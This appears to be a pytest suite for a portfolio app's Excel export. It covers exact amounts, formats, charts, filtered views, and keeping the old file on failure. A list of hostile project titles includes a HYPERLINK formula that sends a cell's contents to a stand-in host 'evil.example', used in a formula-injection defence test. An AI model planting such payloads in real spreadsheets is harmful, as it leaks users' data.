"""Excel export: what a finance person opens (types, formats, lists, charts), exact amounts, safe text,
and a target that is never left half-written."""

from __future__ import annotations

import os
import sqlite3
import subprocess
import sys
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from defusedxml import ElementTree
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from portfolio_desktop import messages
from portfolio_desktop.domain.enums import Instrument, PartnerRole, ProjectStatus
from portfolio_desktop.domain.filters import ProjectFilter
from portfolio_desktop.domain.model import (
    DomainShare,
    FunderRecord,
    FundingLineRecord,
    OrganisationRecord,
    PartnerRecord,
    ProjectRecord,
)
from portfolio_desktop.domain.money import MAX_CENTS
from portfolio_desktop.errors import DiskFullError, KnownError
from portfolio_desktop.services import portfolio, reference
from portfolio_desktop.services.excel_export import (
    LISTS_TITLE,
    excel_euros,
    export_workbook,
)
from portfolio_desktop.services.progress import Cancelled, Progress
from portfolio_desktop.services.stats import portfolio_stats
from portfolio_desktop.services.workbook_schema import (
    FOLLOW_UP_SHEETS,
    MONEY_SHEETS,
    SHEETS,
    SUMMARY_TITLE,
)

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "+33 2 99 00 00 00",
    "-1+1",
    "@SUM(A1:A9)",
    "\tTabulé",
    "\rRetour",
    "<r>a & b</r>",
    "_x0041_ littéral",
]


# -- helpers ------------------------------------------------------------------------------------


def rows_of(path: Path, sheet: str) -> list[list[object]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(sheet).to_python()


def sheet_xml(path: Path, title: str) -> bytes:
    """The XML part of a sheet, found through workbook.xml and its relationships."""
    with zipfile.ZipFile(path) as archive:
        book = ElementTree.fromstring(archive.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
        rid = next(
            s.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id")
            for s in book.iter(f"{{{NS['m']}}}sheet")
            if s.get("name") == title
        )
        target = next(r.get("Target") for r in rels if r.get("Id") == rid)
        return archive.read("xl/" + target.lstrip("/").removeprefix("xl/"))


def exact_cents(value: object) -> int:
    """The cents a number cell holds, asserting it reads back as at most two decimals."""
    assert isinstance(value, float | int), value
    shown = Decimal(repr(float(value)))
    assert shown.as_tuple().exponent >= -2 or shown == shown.to_integral_value(), value
    return int(shown * 100)


def build_small_portfolio(db, titles: list[str] | None = None) -> dict[str, int]:
    """Two projects with partners, funding and a domain split; the titles may be hostile."""
    cluster = reference.ensure_cluster(db, "Images & Réseaux", "IR")
    lead = reference.save_organisation(
        db, OrganisationRecord("Kerlis SAS", siren="732829320", region="BRE", is_member=True)
    ).id
    lab = reference.save_organisation(db, OrganisationRecord("IRISA")).id
    region = reference.save_funder(db, FunderRecord("Région Bretagne"))
    state = reference.save_funder(db, FunderRecord("État — France 2030"))
    domains = [d.id for d in reference.domains(db)]
    titles = titles or ["Grille de données", "Capteurs sobres"]
    ids = {}
    for n, title in enumerate(titles):
        record = ProjectRecord(
            cluster_id=cluster,
            reference=f"IR-2024-{n + 1:04d}",
            acronym=f"P{n}",
            title=title,
            # Labelled: money is granted from the label on.
            status=ProjectStatus.LABELLED,
            submitted_on=date(2024, 3, 1 + n % 27),
            evaluated_on=date(2024, 4, 1),
            labelling_decided_on=date(2024, 5, 1),
            start_on=date(2024, 9, 1),
            total_budget_cents=200_000_001 + n,
            partners=[
                PartnerRecord(lead, PartnerRole.LEAD, 120_000_000),
                PartnerRecord(lab, PartnerRole.PARTNER, 80_000_001),
            ],
            funding_lines=[
                FundingLineRecord(
                    region, Instrument.GRANT, 50_000_000, 45_000_033, 1_999, date(2024, 7, 1), lead
                ),
                FundingLineRecord(state, Instrument.REPAYABLE_ADVANCE, 10_000_007, None),
            ],
            domains=[DomainShare(domains[0], 70), DomainShare(domains[1], 30)],
            regions=["BRE"],
        )
        ids[record.reference] = portfolio.create_project(db, record, user="test").id
    return ids


@pytest.fixture
def out_dir(tmp_path: Path) -> Path:
    """A folder holding only what the export writes (the database lives beside it)."""
    folder = tmp_path / "exports"
    folder.mkdir()
    return folder


def query(db, sql: str, *params: object) -> list[tuple]:
    with sqlite3.connect(db.path) as conn:
        return conn.execute(sql, params).fetchall()


# -- the workbook a finance person opens -------------------------------------------------------------


@pytest.fixture(scope="module")
def pole_export(tmp_path_factory, pole_demo_file: Path) -> tuple[Path, Path]:
    """The pole demo exported once in French (the database file is only read)."""
    from portfolio_desktop.storage.schema import open_database

    out = tmp_path_factory.mktemp("export") / "portefeuille.xlsx"
    db = open_database(pole_demo_file)
    try:
        export_workbook(db, out, lang="fr")
    finally:
        db.dispose()
    return pole_demo_file, out


def test_sheets_headers_and_counts_follow_the_layout(pole_export) -> None:
    db_file, out = pole_export
    book = CalamineWorkbook.from_path(str(out))
    assert book.sheet_names == [s.fr for s in (*SHEETS, *MONEY_SHEETS, *FOLLOW_UP_SHEETS)] + [
        SUMMARY_TITLE["fr"],
        LISTS_TITLE["fr"],
    ]
    counts = {
        "projects": "project",
        "funding": "funding_line",
        "partners": "participation",
        "organisations": "organisation",
        "domains": "domain",
        "funders": "funder",
        "calls": "call",
        "clusters": "cluster",
        # Every expert and evaluation survives a round trip (they were once left out).
        "experts": "expert",
        "evaluations": "evaluation",
        "committees": "committee",
        "submissions": "submission",
        "follow_up": "follow_up",
    }
    with sqlite3.connect(db_file) as conn:
        for sheet in SHEETS + FOLLOW_UP_SHEETS:
            rows = book.get_sheet_by_name(sheet.fr).to_python()
            assert rows[0] == [c.fr for c in sheet.columns]
            expected = conn.execute(f"SELECT count(*) FROM {counts[sheet.key]}").fetchone()[0]
            assert len(rows) - 1 == expected, sheet.key


def test_funding_lines_read_back_exactly(pole_export) -> None:
    """Every amount reads back to the same cents, every date is a date cell, labels are French."""
    db_file, out = pole_export
    with sqlite3.connect(db_file) as conn:
        expected = {
            line_id: rest
            for line_id, *rest in conn.execute(
                "SELECT l.id, c.code, p.reference, f.name, l.instrument, o.name, l.requested_cents,"
                " l.granted_cents, l.paid_cents, l.decision_on, l.granted_override"
                " FROM funding_line l JOIN project p ON p.id = l.project_id"
                " JOIN cluster c ON c.id = p.cluster_id JOIN funder f ON f.id = l.funder_id"
                " LEFT JOIN organisation o ON o.id = l.beneficiary_id"
            )
        }
    instruments = messages.labels("Instrument", "fr")
    rows = rows_of(out, "Financements")[1:]
    assert len(rows) == len(expected)
    seen_dates = 0
    for row in rows:
        line_id, cluster, ref, funder, instrument, beneficiary, req, granted, paid, on, over = row
        e = expected[int(line_id)]
        assert [cluster, ref, funder] == e[:3]
        assert instrument == instruments[e[3]]
        assert (beneficiary or None) == e[4]
        for cell, cents in zip((req, granted, paid), e[5:8], strict=True):
            assert (None if cell == "" else exact_cents(cell)) == cents
        if e[8] is None:
            assert on == ""
        else:
            assert on == date.fromisoformat(e[8])
            seen_dates += 1
        assert over == ("Oui" if e[9] else "Non")
    assert seen_dates > 100


def test_projects_sheet_values(pole_export) -> None:
    db_file, out = pole_export
    rows = rows_of(out, "Projets")
    header = rows[0]
    by_ref = {r[1]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    statuses = messages.labels("ProjectStatus", "fr")
    with sqlite3.connect(db_file) as conn:
        for reference_, status, budget, granted, submitted, rd in conn.execute(
            "SELECT reference, status, total_budget_cents, granted_cents, submitted_on,"
            " responsible_digital FROM project"
        ):
            row = by_ref[reference_]
            assert row["Statut"] == statuses[status]
            assert (
                None if row["Budget total (€)"] == "" else exact_cents(row["Budget total (€)"])
            ) == budget
            assert exact_cents(row["Aide accordée (€)"]) == granted
            assert row["Date de dépôt"] == (date.fromisoformat(submitted) if submitted else "")
            assert row["Numérique responsable"] == ("Oui" if rd else "Non")
        split = conn.execute(
            "SELECT p.reference, d.name, pd.percent FROM project_domain pd"
            " JOIN project p ON p.id = pd.project_id JOIN domain d ON d.id = pd.domain_id"
            " WHERE p.id = (SELECT project_id FROM project_domain GROUP BY project_id"
            " HAVING count(*) > 1 LIMIT 1) ORDER BY pd.percent DESC"
        ).fetchall()
    assert by_ref[split[0][0]]["Domaines"] == "; ".join(f"{n} {p} %" for _, n, p in split)


def test_formats_frozen_header_autofilter_and_lists(pole_export) -> None:
    _db, out = pole_export
    xml = ElementTree.fromstring(sheet_xml(out, "Financements"))
    pane = xml.find(".//m:sheetView/m:pane", NS)
    assert pane is not None and pane.get("state") == "frozen" and pane.get("ySplit") == "1"
    assert xml.find("m:autoFilter", NS).get("ref").startswith("A1:K")
    widths = [float(c.get("width")) for c in xml.findall("m:cols/m:col", NS)]
    assert min(widths) >= 9 and max(widths) >= 30
    validations = {v.get("sqref").split(":")[0]: v for v in xml.findall(".//m:dataValidation", NS)}
    funder, instrument = validations["D2"], validations["E2"]
    assert funder.get("type") == "list" and funder.get("errorStyle") == "warning"
    assert funder.find("m:formula1", NS).text.startswith("'Listes'!$H$2")
    assert instrument.get("type") == "list" and instrument.get("errorStyle") is None  # stop
    assert validations["G2"].get("type") == "decimal"  # amounts ≥ 0

    with zipfile.ZipFile(out) as archive:
        styles = archive.read("xl/styles.xml").decode()
        book = archive.read("xl/workbook.xml").decode()
    assert "#,##0.00 &quot;€&quot;" in styles and "dd/mm/yyyy" in styles
    assert (
        f'name="Listes" sheetId="{len(SHEETS) + len(MONEY_SHEETS) + len(FOLLOW_UP_SHEETS) + 2}" state="hidden"'
        in book
    )
    projects = ElementTree.fromstring(sheet_xml(out, "Projets"))
    status = next(
        v for v in projects.findall(".//m:dataValidation", NS) if v.get("sqref").startswith("E2")
    )
    assert status.find("m:formula1", NS).text == "'Listes'!$A$2:$A$11"
    lists = rows_of(out, "Listes")
    assert [r[0] for r in lists[1:11]] == list(messages.labels("ProjectStatus", "fr").values())


def test_summary_matches_stats_and_carries_native_charts(pole_export) -> None:
    """Year totals, domain totals and funder totals equal `stats`; the charts are chart parts."""
    from portfolio_desktop.storage.schema import open_database

    db_file, out = pole_export
    db = open_database(db_file)
    try:
        stats = portfolio_stats(db)
    finally:
        db.dispose()
    rows = rows_of(out, "Synthèse")
    header_at = next(i for i, r in enumerate(rows) if r[0] == "Année")
    header = rows[header_at]
    total_col = header.index("Total")
    by_year = {}
    r = header_at + 1
    while rows[r][0] != "Total":
        by_year[str(int(rows[r][0]))] = exact_cents(rows[r][total_col])
        r += 1
    assert by_year == {y: int(Decimal(v) * 100) for y, v in stats["funding_by_year"].items()}
    by_domain = {name: exact_cents(rows[r][c]) for c, name in enumerate(header[1:total_col], 1)}
    assert by_domain == {
        d: int(Decimal(v) * 100) for d, v in stats["funding_by_domain"].items() if Decimal(v)
    }
    funder_at = next(i for i, r in enumerate(rows) if r[0] == "Financeur")
    by_funder = {}
    for row in rows[funder_at + 1 :]:
        if row[0] == "Total":
            break
        by_funder[row[0]] = exact_cents(row[3])
    assert by_funder == {f: int(Decimal(v) * 100) for f, v in stats["funding_by_funder"].items()}

    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        charts = [archive.read(n).decode() for n in names if n.startswith("xl/charts/chart")]
        pictures = [n for n in names if n.startswith("xl/media/")]
    assert len(charts) == 3 and not pictures
    assert sum("<c:barChart>" in c and '<c:grouping val="stacked"/>' in c for c in charts) == 1
    assert sum("<c:lineChart>" in c for c in charts) == 1
    assert all("Synth" in c for c in charts)  # the series point at the Summary's cells


def test_english_workbook(tmp_path: Path, db) -> None:
    build_small_portfolio(db)
    out = tmp_path / "portfolio.xlsx"
    export_workbook(db, out, lang="en")
    book = CalamineWorkbook.from_path(str(out))
    assert book.sheet_names == [s.en for s in (*SHEETS, *MONEY_SHEETS, *FOLLOW_UP_SHEETS)] + [
        "Summary",
        "Lists",
    ]
    projects = book.get_sheet_by_name("Projects").to_python()
    assert projects[0] == [c.en for c in SHEETS[0].columns]
    assert projects[1][4] == "Labelled" and projects[1][20] == "No"
    funding = book.get_sheet_by_name("Funding").to_python()
    assert {r[4] for r in funding[1:]} == {"Grant", "Repayable advance"}


# -- safe text ----------------------------------------------------------------------------------


def test_user_text_is_never_a_formula(tmp_path: Path, db) -> None:
    """OWASP formula injection: the XML holds inline strings, no <f>, and each reads back as typed."""
    build_small_portfolio(db, HOSTILE_TITLES)
    out = tmp_path / "hostile.xlsx"
    export_workbook(db, out)
    xml = sheet_xml(out, "Projets")
    tree = ElementTree.fromstring(xml)
    assert tree.find(".//m:f", NS) is None
    title_cells = [c for c in tree.iter(f"{{{NS['m']}}}c") if c.get("r", "").startswith("D")][1:]
    assert len(title_cells) == len(HOSTILE_TITLES)
    assert all(c.get("t") == "inlineStr" for c in title_cells)
    assert b"<f>" not in xml and b"HYPERLINK" in xml
    titles = [r[3] for r in rows_of(out, "Projets")[1:]]
    assert sorted(titles) == sorted(HOSTILE_TITLES)
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name


# -- filtered views and templates --------------------------------------------------------------------


def test_filtered_export_holds_the_view(tmp_path: Path, pole_db) -> None:
    flt = ProjectFilter(statuses=("running",), search="quantique")
    with sqlite3.connect(pole_db.path) as conn:
        refs = {
            r
            for (r,) in conn.execute(
                "SELECT reference FROM project WHERE status = 'running' AND search_text LIKE '%quantique%'"
            )
        }
        lines = conn.execute(
            "SELECT count(*) FROM funding_line l JOIN project p ON p.id = l.project_id"
            " WHERE p.status = 'running' AND p.search_text LIKE '%quantique%'"
        ).fetchone()[0]
    assert refs
    out = tmp_path / "vue.xlsx"
    result = export_workbook(pole_db, out, project_filter=flt)
    assert result.projects == len(refs) and result.funding_lines == lines
    assert {r[1] for r in rows_of(out, "Projets")[1:]} == refs
    assert {r[2] for r in rows_of(out, "Financements")[1:]} <= refs
    partners = rows_of(out, "Partenaires")[1:]
    organisations = {r[0] for r in rows_of(out, "Organisations")[1:]}
    assert {r[2] for r in partners} <= organisations
    assert len(organisations) < 778
    summary = rows_of(out, "Synthèse")
    assert summary[1][1] == "Vue filtrée" and summary[3][1] == len(refs)


def test_template_has_headers_and_lists_only(tmp_path: Path, pole_db) -> None:
    out = tmp_path / "modele.xlsx"
    result = export_workbook(pole_db, out, template=True)
    assert result.template and result.projects == 0
    book = CalamineWorkbook.from_path(str(out))
    # The template carries the money sheets too (schedules, payments, cofinancing, rules).
    assert book.sheet_names == [s.fr for s in (*SHEETS, *MONEY_SHEETS, *FOLLOW_UP_SHEETS)] + [
        LISTS_TITLE["fr"]
    ]
    for sheet in (*SHEETS, *MONEY_SHEETS):
        assert book.get_sheet_by_name(sheet.fr).to_python() == [[c.fr for c in sheet.columns]]
    funders = {r[7] for r in book.get_sheet_by_name("Listes").to_python()[1:]} - {""}
    assert funders == {r[0] for r in query(pole_db, "SELECT name FROM funder")}
    validations = ElementTree.fromstring(sheet_xml(out, "Financements")).findall(
        ".//m:dataValidation", NS
    )
    assert len(validations) >= 3


# -- the target file ----------------------------------------------------------------------------


def test_old_file_kept_when_target_is_open_in_libreoffice(out_dir: Path, db) -> None:
    out = out_dir / "classeur.xlsx"
    out.write_bytes(b"old workbook")
    (out_dir / ".~lock.classeur.xlsx#").write_text("user,host")
    with pytest.raises(KnownError) as caught:
        export_workbook(db, out)
    assert caught.value.code == "export_target_locked"
    assert "fermez-le" in messages.text(caught.value.code, caught.value.params, "fr")
    assert out.read_bytes() == b"old workbook"
    assert sorted(p.name for p in out_dir.iterdir()) == [".~lock.classeur.xlsx#", "classeur.xlsx"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes through read-only permissions")
def test_read_only_target_is_refused(out_dir: Path, db) -> None:
    out = out_dir / "classeur.xlsx"
    out.write_bytes(b"old workbook")
    out.chmod(0o444)
    with pytest.raises(KnownError) as caught:
        export_workbook(db, out)
    assert caught.value.code == "export_target_read_only"
    assert out.read_bytes() == b"old workbook"


def test_read_only_target_check_does_not_depend_on_permissions(
    out_dir: Path, db, monkeypatch
) -> None:
    """Even where rename ignores file permissions (POSIX), a read-only target is refused."""
    out = out_dir / "classeur.xlsx"
    out.write_bytes(b"old workbook")
    real_access = os.access
    monkeypatch.setattr(
        os, "access", lambda p, mode: False if Path(p) == out else real_access(p, mode)
    )
    with pytest.raises(KnownError) as caught:
        export_workbook(db, out)
    assert caught.value.code == "export_target_read_only"
    assert out.read_bytes() == b"old workbook"
    assert [p.name for p in out_dir.iterdir()] == ["classeur.xlsx"]


def test_bad_targets(out_dir: Path, db) -> None:
    for target, code in (
        (out_dir / "a.xls", "export_not_xlsx"),
        (out_dir / "missing" / "a.xlsx", "export_folder_missing"),
    ):
        with pytest.raises(KnownError) as caught:
            export_workbook(db, target)
        assert caught.value.code == code
    folder = out_dir / "dossier.xlsx"
    folder.mkdir()
    with pytest.raises(KnownError) as caught:
        export_workbook(db, folder)
    assert caught.value.code == "export_target_is_folder"


def test_cancel_leaves_the_old_file_and_no_partial_file(out_dir: Path, pole_db) -> None:
    out = out_dir / "classeur.xlsx"
    out.write_bytes(b"old workbook")
    seen: list[str] = []

    def on_progress(fraction: float, message: str) -> None:
        seen.append(message)
        if message == "export_progress_funding":
            progress.cancel()

    progress = Progress(on_progress)
    with pytest.raises(Cancelled):
        export_workbook(pole_db, out, progress=progress)
    assert "export_progress_projects" in seen
    assert out.read_bytes() == b"old workbook"
    assert [p.name for p in out_dir.iterdir()] == ["classeur.xlsx"]


def test_full_disk_keeps_the_old_file(out_dir: Path, pole_demo_file: Path) -> None:
    """A write that fails half-way (file size limit: EFBIG, as ENOSPC) becomes the disk-full message,
    the old workbook stays as it was, and no partial file is left beside it."""
    out = out_dir / "classeur.xlsx"
    out.write_bytes(b"old workbook")
    limit = (
        "import resource, signal;"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN);"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, resource.RLIM_INFINITY));"
    )
    code = limit + "from portfolio_desktop.__main__ import main; raise SystemExit(main())"
    done = subprocess.run(
        [sys.executable, "-c", code, "export", "--db", str(pole_demo_file), str(out)],
        capture_output=True,
        text=True,
        env={**os.environ, "PORTFOLIO_DESKTOP_LANG": "fr"},
        timeout=120,
    )
    assert done.returncode == 2, done.stderr
    assert messages.text(DiskFullError.code, lang="fr") in done.stderr
    assert out.read_bytes() == b"old workbook"
    assert [p.name for p in out_dir.iterdir()] == ["classeur.xlsx"]


def test_replaced_file_keeps_its_permissions(out_dir: Path, db) -> None:
    out = out_dir / "classeur.xlsx"
    out.write_bytes(b"old")
    out.chmod(0o640)
    export_workbook(db, out)
    assert out.stat().st_mode & 0o777 == 0o640
    assert zipfile.is_zipfile(out)


# -- amounts ------------------------------------------------------------------------------------


@settings(max_examples=500, deadline=None)
@given(st.integers(min_value=0, max_value=MAX_CENTS))
def test_every_amount_is_the_exact_cents(cents: int) -> None:
    """cents / 100 as a double prints (as XlsxWriter writes it, 16 digits) and reads back exactly."""
    value = excel_euros(cents)
    written = float(f"{value:.16G}")
    assert Decimal(repr(written)) * 100 == cents


def test_text_beyond_excel_limit_is_cut_and_reported(out_dir: Path, db) -> None:
    ids = build_small_portfolio(db)
    record = portfolio.load_project(db, ids["IR-2024-0001"])
    record.summary = "é" * 40_000
    portfolio.update_project(db, record, expected_version=record.version)
    out = out_dir / "long.xlsx"
    result = export_workbook(db, out)
    assert result.truncated == ("Projets",)
    summaries = {r[1]: r[27] for r in rows_of(out, "Projets")[1:]}
    assert summaries["IR-2024-0001"] == "é" * 32_767


def test_summary_without_any_granted_amount(out_dir: Path, db) -> None:
    """Lines with a year but nothing granted yet: the year × domain chart has no series to draw
    and is left out (XlsxWriter refuses an empty chart); the rest of the Summary is written."""
    cluster = reference.ensure_cluster(db, "Images & Réseaux", "IR")
    funder = reference.save_funder(db, FunderRecord("ADEME"))
    record = ProjectRecord(
        cluster_id=cluster,
        reference="IR-2025-0001",
        acronym="SOBRE",
        funding_lines=[
            FundingLineRecord(funder, Instrument.GRANT, None, None, None, date(2025, 1, 2))
        ],
    )
    portfolio.create_project(db, record, user="test")
    out = out_dir / "vide.xlsx"
    export_workbook(db, out)
    with zipfile.ZipFile(out) as archive:
        charts = [archive.read(n).decode() for n in archive.namelist() if "charts/chart" in n]
    assert len(charts) == 2 and not any("<c:barChart>" in c and "stacked" in c for c in charts)
    summary = rows_of(out, "Synthèse")
    assert [r[0] for r in summary].count(2025.0) == 1


def test_failure_while_saving_keeps_the_old_file(out_dir: Path, db, monkeypatch) -> None:
    """The disk fills up while XlsxWriter assembles the package (its close() wraps the OSError):
    the disk-full message, the old workbook intact, no partial file left."""
    import errno

    import xlsxwriter.workbook

    out = out_dir / "classeur.xlsx"
    out.write_bytes(b"old workbook")

    def full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(xlsxwriter.workbook.Workbook, "_store_workbook", full)
    with pytest.raises(DiskFullError):
        export_workbook(db, out)
    assert out.read_bytes() == b"old workbook"
    assert [p.name for p in out_dir.iterdir()] == ["classeur.xlsx"]


def test_new_file_gets_the_usual_permissions(out_dir: Path, db) -> None:
    umask = os.umask(0o022)
    os.umask(umask)
    export_workbook(db, out_dir / "nouveau.xlsx")
    assert (out_dir / "nouveau.xlsx").stat().st_mode & 0o777 == 0o666 & ~umask
